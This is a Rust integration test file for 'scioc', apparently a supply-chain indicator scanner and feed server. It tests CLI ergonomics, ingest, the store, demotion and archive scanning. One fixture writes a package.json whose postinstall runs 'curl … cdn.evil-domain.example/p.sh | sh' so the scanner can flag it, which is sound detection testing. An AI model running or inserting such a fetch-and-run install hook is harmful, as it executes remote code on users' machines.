//! What a new user meets in the first hour (issue 18): each observed point, failing before its
//! fix.

use crate::support::Scioc;
use std::process::Stdio;

#[test]
fn a_closed_stdout_ends_quietly_with_success() {
    let s = Scioc::new();
    s.ok(&["ingest", "osv", &crate::osv::fixture().arg()], "");
    for args in [&["indicators"][..], &["indicators", "--format", "json"], &["status"], &["user", "list"]] {
        // The reading end is closed before the first write, so every write meets a broken pipe.
        let mut child = s.cmd().args(args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "scioc {args:?}: {:?}\n{stderr}", out.status);
        assert!(!stderr.contains("panicked") && !stderr.contains("Broken pipe"), "scioc {args:?}: {stderr}");
    }
}

#[test]
fn shared_data_files_respect_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let s = Scioc::new();
    s.ok(&["ingest", "osv", &crate::osv::fixture().arg()], "");
    for (umask, mode) in [("022", 0o644), ("002", 0o664), ("077", 0o600)] {
        let out = s.dir.path().join(format!("export-{umask}"));
        // The umask is the shell's, as a user's would be.
        let mut cmd = std::process::Command::new("sh");
        cmd.arg("-c").arg(format!("umask {umask} && exec \"$0\" \"$@\"")).arg(s.cmd().get_program());
        cmd.args(s.cmd().get_args()).args(["export", "tooltrust", "--out", out.to_str().unwrap()]);
        cmd.current_dir(s.dir.path());
        let done = cmd.output().unwrap();
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        let mut seen = 0;
        for f in std::fs::read_dir(&out).unwrap() {
            let f = f.unwrap();
            let got = f.metadata().unwrap().permissions().mode() & 0o777;
            assert_eq!(got, mode, "{} under umask {umask}", f.path().display());
            seen += 1;
        }
        assert!(seen >= 2, "blacklist.json and npm_iocs.json at least");
    }
}

#[test]
fn a_taken_port_is_named_once() {
    let s = Scioc::new();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = taken.local_addr().unwrap().to_string();
    let out = s.run(&["serve", "--listen", &addr], "");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains(&format!("cannot listen on {addr}")), "{stderr}");
    assert_eq!(stderr.matches("Address already in use").count(), 1, "the cause once: {stderr}");
}

#[test]
fn one_osv_record_can_be_ingested_from_its_file() {
    let s = Scioc::new();
    let dir = tempfile::tempdir().unwrap();
    let one = dir.path().join("MAL-2099-0301.json");
    let record = crate::osv::record("MAL-2099-0301", "npm", "single-file-evil", &["1.0.0"], "2099-01-01T00:00:00Z");
    std::fs::write(&one, record.to_string()).unwrap();
    let out = s.ok(&["ingest", "osv", one.to_str().unwrap()], "");
    assert!(out.contains("1 files: 1 MAL records compared") && out.contains("imported 1 event(s)"), "{out}");
    // Anything else is refused with what was expected.
    let other = dir.path().join("notes.txt");
    std::fs::write(&other, "hello").unwrap();
    let bad = s.run(&["ingest", "osv", other.to_str().unwrap()], "");
    let stderr = String::from_utf8_lossy(&bad.stderr);
    assert!(!bad.status.success() && stderr.contains("expected a directory, a .json record"), "{stderr}");
}

/// The binary as a new user runs it: no --data-dir, no SCIOC_* variables, a home of its own.
fn as_newcomer(home: &std::path::Path, cwd: &std::path::Path) -> std::process::Command {
    let mut c = std::process::Command::new(crate::support::binary());
    for (k, _) in std::env::vars() {
        if k.starts_with("SCIOC_") || k.starts_with("XDG_") {
            c.env_remove(k);
        }
    }
    c.env("HOME", home).current_dir(cwd);
    c
}

#[test]
fn every_command_finds_one_store_and_reading_never_makes_one() {
    let tmp = tempfile::tempdir().unwrap();
    let (home, project) = (tmp.path().join("home"), tmp.path().join("myproject"));
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("package-lock.json"),
        r#"{"name": "p", "lockfileVersion": 3, "packages": {"": {"name": "p"}, "node_modules/@evil/scoped": {"version": "1.0.1"}}}"#,
    )
    .unwrap();
    let store_dir = home.join(".local/share/scioc");
    let run = |args: &[&str]| as_newcomer(&home, &project).args(args).output().unwrap();

    // Reading commands, with no store anywhere: they say where they looked and what fills one,
    // and make nothing.
    for args in [&["scan"][..], &["status"], &["indicators"], &["sources", "list"], &["user", "list"]] {
        let out = run(args);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "scioc {args:?}");
        assert!(stderr.contains(&format!("no store in {}", store_dir.display())), "scioc {args:?}: {stderr}");
        assert!(stderr.contains("scioc sync --from") && stderr.contains("scioc ingest osv"), "{stderr}");
        assert!(!store_dir.exists() && !project.join("scioc-data").exists(), "scioc {args:?} made a store");
    }
    let named = tmp.path().join("nothing");
    let out = run(&["--data-dir", named.to_str().unwrap(), "status"]);
    assert!(!out.status.success() && !named.exists(), "--data-dir of nothing stays nothing");
    let records = crate::osv::fixture();
    let out = run(&["ingest", "osv", "--dry-run", &records.arg()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!store_dir.exists(), "a dry run makes no store");

    // A store filled from anywhere is the one every command finds, from the project too.
    let elsewhere = as_newcomer(&home, tmp.path()).args(["ingest", "osv", &records.arg()]).output().unwrap();
    assert!(elsewhere.status.success(), "{}", String::from_utf8_lossy(&elsewhere.stderr));
    assert!(store_dir.join("scioc.db").exists());
    let out = run(&["scan", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(1), "{report}");
    assert_eq!(report["findings"][0]["package"], "@evil/scoped");
    assert!(!project.join("scioc-data").exists(), "nothing written into the project");
}

/// Runs a hint's command line as a user would paste it, with the user's credentials.
fn paste(hint: &str, user: &str) -> String {
    let line = hint.replace("NAME:PASSWORD", &format!("{user}:{}", crate::support::PASSWORD));
    let out = std::process::Command::new("sh").arg("-c").arg(&line).output().unwrap();
    assert!(out.status.success(), "{line}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn serve_hints_work_when_pasted() {
    use std::io::BufRead;
    for tls in [false, true] {
        let s = Scioc::new();
        s.add_user("alice", "reader");
        let extra: &[&str] = if tls { &["--tls-self-signed"] } else { &[] };
        // With the starter set, as `scioc serve` with no flags.
        let mut child = crate::support::Server::spawn(&s, extra, false);
        let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
        let mut hints = Vec::new();
        while let Some(Ok(line)) = lines.next() {
            let done = line.starts_with("  && curl");
            hints.push(line);
            if done || hints.len() > 40 {
                break;
            }
        }
        std::thread::spawn(move || for _ in lines {});
        let server = crate::support::Server { child, url: String::new(), ca: None };
        let try_line = hints.iter().find_map(|l| l.strip_prefix("try: ")).unwrap_or_else(|| panic!("{hints:#?}"));
        assert_eq!(try_line.contains("--cacert"), tls, "{try_line}");
        let page = paste(try_line, "alice");
        assert!(page.matches("\"event_type\"").count() >= 10, "the first ten events: {page}");
        // The cursor hint spans two lines, joined by the shell's line continuation.
        let start = hints.iter().position(|l| l.starts_with("or a cursor of your own")).expect("a cursor hint");
        let cursor = format!("{}\n{}", hints[start].split_once(": ").unwrap().1, hints[start + 1]);
        let page = paste(&cursor, "alice");
        assert!(page.contains("\"event_type\""), "a pull from the start has events: {page}");
        // The console's address, fetched as the try line fetches the feed.
        let console = hints.iter().find_map(|l| l.strip_prefix("web console: ")).expect("a console hint");
        let console_url = console.split_whitespace().next().unwrap();
        let (curl, _) = try_line.rsplit_once(" '").unwrap();
        let page = paste(&format!("{curl} '{console_url}'"), "alice");
        assert!(page.contains("<title>scioc console</title>") && page.contains("alice"), "{page}");
        drop(server);
    }
}

#[test]
fn the_help_examples_are_whole_lines() {
    let s = Scioc::new();
    let help = s.ok(&["--help"], "");
    assert!(help.lines().all(|l| l.chars().count() <= 100), "{help}");
    assert!(
        help.lines()
            .any(|l| l.trim_start().starts_with("'http://127.0.0.1:8080/api/feed/supply_chain/ioc/v1/query/utc/")),
        "the example URL on a line of its own, whole: {help}"
    );
}

#[test]
fn demotion_by_name_needs_no_invented_candidate_and_says_what_it_removed() {
    let s = Scioc::new();
    let iocs = s.dir.path().join("iocs");
    let cand = |ioc_type: &str, value: &str, promote_to: &str| {
        serde_json::json!({"ecosystem": "npm", "ioc_type": ioc_type, "value": value, "confidence": "high",
            "reason": "seen in an incident", "source": "https://example.org/advisory", "first_seen": "2026-03-31",
            "suggested_action": "block", "promote_to": promote_to})
    };
    let mut pkg = cand("package_name", "fp-pkg", "blacklist");
    pkg["blacklist_id"] = serde_json::json!("FP-PKG-1");
    pkg["affected_versions"] = serde_json::json!(["1.0.0", "1.0.1"]);
    pkg["action"] = serde_json::json!("BLOCK");
    pkg["severity"] = serde_json::json!("CRITICAL");
    let file = s.dir.path().join("c.json");
    std::fs::write(&file, serde_json::json!([cand("domain", "cdn.fp.example", "npm_iocs"), pkg]).to_string()).unwrap();
    s.ok(&["candidates", "promote", file.to_str().unwrap(), "--files", iocs.to_str().unwrap()], "");
    let files = ["--files", iocs.to_str().unwrap()];

    // An indicator, by ecosystem, type and value, with a reason.
    let mut args = vec!["candidates", "demote", "--ecosystem", "npm", "--type", "domain", "--value", "cdn.fp.example"];
    args.extend(files);
    args.extend(["--reason", "a CDN, benign"]);
    let out = s.ok(&args, "");
    assert!(out.contains("npm_iocs.json: 0 added, 0 merged, 1 removed"), "{out}");
    assert!(out.contains("store: 0 added, 0 merged, 1 removed"), "{out}");
    assert!(!out.contains("  skipped "), "only where it was: {out}");
    let npm_iocs = std::fs::read_to_string(iocs.join("npm_iocs.json")).unwrap();
    assert!(!npm_iocs.contains("cdn.fp.example"), "{npm_iocs}");
    let indicators = s.ok(&["indicators", "--format", "json"], "");
    assert!(!indicators.contains("cdn.fp.example"), "{indicators}");
    // Again: nothing to demote, said so, and a failure.
    let again = s.run(&args, "");
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert!(!again.status.success() && stderr.contains("nothing to demote: npm domain \"cdn.fp.example\""), "{stderr}");

    // A blacklist entry by its id: every version it announced gets its FP, with the reason.
    let mut args = vec!["candidates", "demote", "--blacklist-id", "FP-PKG-1"];
    args.extend(files);
    args.extend(["--reason", "report retracted"]);
    let out = s.ok(&args, "");
    assert!(out.contains("blacklist.json: 0 added, 0 merged, 1 removed"), "{out}");
    assert!(out.contains("removed   npm package_name \"fp-pkg\": FP for 1.0.0, 1.0.1"), "{out}");
    assert!(!out.contains(" added") || out.contains("0 added"), "a removal is not an addition: {out}");
    let blacklist = std::fs::read_to_string(iocs.join("blacklist.json")).unwrap();
    assert!(!blacklist.contains("fp-pkg"), "{blacklist}");
    let store = fp_reasons(&s);
    assert_eq!(store, ["report retracted", "report retracted"]);
    // An unknown id is named.
    let mut args = vec!["candidates", "demote", "--blacklist-id", "NOPE"];
    args.extend(files);
    let bad = s.run(&args, "");
    assert!(String::from_utf8_lossy(&bad.stderr).contains("no entry \"NOPE\" in"), "{:?}", bad);
}

/// The reasons of the store's FP events, in order.
fn fp_reasons(s: &Scioc) -> Vec<String> {
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let store = s.store().await;
        let events = store.find_events(scioc_store::EventFilter::Purl("pkg:npm/fp-pkg".into())).await.unwrap();
        events
            .iter()
            .map(|e| serde_json::from_slice::<serde_json::Value>(&e.entry_json).unwrap())
            .filter(|v| v["event_type"] == "FP")
            .map(|v| v["scioc"]["provenance"]["reason"].as_str().unwrap_or_default().to_owned())
            .collect()
    })
}

#[test]
fn completions_and_the_manual_come_from_the_definitions() {
    let s = Scioc::new();
    // bash loads the script and completes the subcommands, flags included.
    let script = s.ok(&["completions", "bash"], "");
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("scioc.bash");
    std::fs::write(&file, &script).unwrap();
    let probe = format!(
        "source {}; COMP_WORDS=(scioc sc); COMP_CWORD=1; _scioc scioc sc scioc; printf '%s\\n' \"${{COMPREPLY[@]}}\"",
        file.display()
    );
    let out = std::process::Command::new("bash").arg("-c").arg(&probe).output().unwrap();
    let words = String::from_utf8_lossy(&out.stdout);
    assert!(words.lines().any(|w| w == "scan"), "bash completes `sc` to scan: {words}");
    for shell in ["zsh", "fish", "elvish", "powershell"] {
        assert!(s.ok(&["completions", shell], "").contains("scioc"), "{shell}");
    }
    // The manual page: roff, every subcommand named.
    let man = s.ok(&["man"], "");
    assert!(man.contains(".TH scioc 1"), "{man}");
    for sub in ["serve", "scan", "sync", "candidates", "completions"] {
        assert!(man.contains(sub), "{sub} in the manual");
    }
    // Neither needs a store, and neither makes one.
    assert!(!s.data_dir().exists());
    // A closed reader ends them quietly too.
    for args in [&["completions", "bash"][..], &["man"]] {
        let mut child = s.cmd().args(args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success() && out.stderr.is_empty(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
}

#[test]
fn logs_can_be_json_one_object_a_line() {
    use std::io::BufRead;
    let s = Scioc::new();
    let mut child = s
        .cmd()
        .args(["serve", "--listen", "127.0.0.1:0", "--log-format", "json", "--no-starter-set"])
        .env("SCIOC_LOG", "info")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let first = std::io::BufReader::new(child.stdout.take().unwrap()).lines().next().unwrap().unwrap();
    assert!(first.starts_with("scioc feed listening on"), "{first}");
    // SIGTERM: a graceful stop, whose log lines are flushed.
    std::process::Command::new("kill").arg(child.id().to_string()).status().unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let lines: Vec<serde_json::Value> = stderr
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not a JSON line ({e}): {l}")))
        .collect();
    assert!(!lines.is_empty(), "some log lines");
    for l in &lines {
        assert!(l["timestamp"].is_string() && l["level"].is_string() && l["fields"].is_object(), "{l}");
    }
    // Fields stay fields: a migration's version is a number, not words in a message.
    assert!(
        lines.iter().any(|l| l["fields"]["message"] == "applied store migration" && l["fields"]["version"] == 1),
        "{stderr}"
    );
}

#[test]
fn indicators_are_a_compact_table_filters_csv_and_json() {
    let s = Scioc::new();
    s.ok(&["ingest", "osv", &crate::osv::fixture().arg()], "");
    let json: serde_json::Value = serde_json::from_str(&s.ok(&["indicators", "--format", "json"], "")).unwrap();
    let n = json.as_array().unwrap().len();
    assert!(n >= 3, "{json}");
    // The table: a header, one line per indicator and a closing hint; no rules between rows.
    let table = s.ok(&["indicators"], "");
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), n + 2, "{table}");
    assert!(lines[0].split_whitespace().eq(["KIND", "VALUE", "PACKAGE", "SOURCE"]), "{table}");
    assert!(lines.last().unwrap().starts_with(&format!("{n} of {n} indicator(s)")), "{table}");
    assert!(!table.contains('─'), "no rules: {table}");
    // CSV: a header and every field of every indicator.
    let csv = s.ok(&["indicators", "--format", "csv"], "");
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(rows.headers().unwrap().iter().collect::<Vec<_>>()[..3], ["kind", "value", "match"]);
    assert_eq!(rows.records().count(), n);
    // Filters narrow; --limit bounds.
    let domains: serde_json::Value =
        serde_json::from_str(&s.ok(&["indicators", "--format", "json", "--kind", "domain", "--contains", "EVIL"], ""))
            .unwrap();
    assert!(!domains.as_array().unwrap().is_empty(), "{domains}");
    assert!(
        domains
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i["kind"] == "domain" && i["value"].as_str().unwrap().contains("evil"))
    );
    let one: serde_json::Value =
        serde_json::from_str(&s.ok(&["indicators", "--format", "json", "--limit", "1"], "")).unwrap();
    assert_eq!(one.as_array().unwrap().len(), 1);
}

#[test]
fn an_archive_is_scanned_for_the_lifecycle_scripts_its_manifest_declares() {
    let s = Scioc::new();
    let dir = s.dir.path().join("proj");
    std::fs::create_dir_all(&dir).unwrap();
    let manifest = "{\n  \"name\": \"curl-postinstall\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"curl -s https://cdn.evil-domain.example/p.sh | sh\"\n  }\n}\n";
    let iocs = s.dir.path().join("npm_iocs.json");
    std::fs::write(
        &iocs,
        serde_json::json!([{"ecosystem": "npm", "ioc_type": "domain", "value": "evil-domain.example", "reason": "test",
            "confidence": "high", "source": "https://example.org/d", "first_seen": "2026-01-01", "suggested_action": "flag"}])
        .to_string(),
    )
    .unwrap();
    let mut tar = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(manifest.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    tar.append_data(&mut h, "package/package.json", manifest.as_bytes()).unwrap();
    let tgz = dir.join("curl-postinstall-1.0.0.tgz");
    std::fs::write(&tgz, crate::support::gz(&tar.into_inner().unwrap())).unwrap();
    let loose = s.dir.path().join("loose");
    std::fs::create_dir_all(&loose).unwrap();
    std::fs::write(loose.join("package.json"), manifest).unwrap();

    let scan = |target: &std::path::Path| {
        let out = s.run(&["scan", "--format", "json", "--iocs", iocs.to_str().unwrap(), target.to_str().unwrap()], "");
        (out.status.code(), serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap())
    };
    // The loose file and the same file packed: the same finding, located inside the archive.
    let (code, loose_report) = scan(&loose.join("package.json"));
    assert_eq!(code, Some(1), "{loose_report}");
    let (code, packed) = scan(&tgz);
    assert_eq!(code, Some(1), "the packed manifest's postinstall is scanned: {packed}");
    let f = &packed["findings"][0];
    assert_eq!((f["rule"].as_str(), f["package"].as_str()), (Some("AS-016"), Some("curl-postinstall")), "{packed}");
    assert_eq!(f["evidence"], loose_report["findings"][0]["evidence"], "{packed}");
    let file = f["file"].as_str().unwrap();
    assert!(file.ends_with("curl-postinstall-1.0.0.tgz!/package/package.json"), "{file}");
    assert_eq!(f["line"], 2, "the manifest's name line, not 0: {packed}");
    // `test` is not run by an install: one finding only.
    assert_eq!(packed["findings"].as_array().unwrap().len(), 1, "{packed}");
}
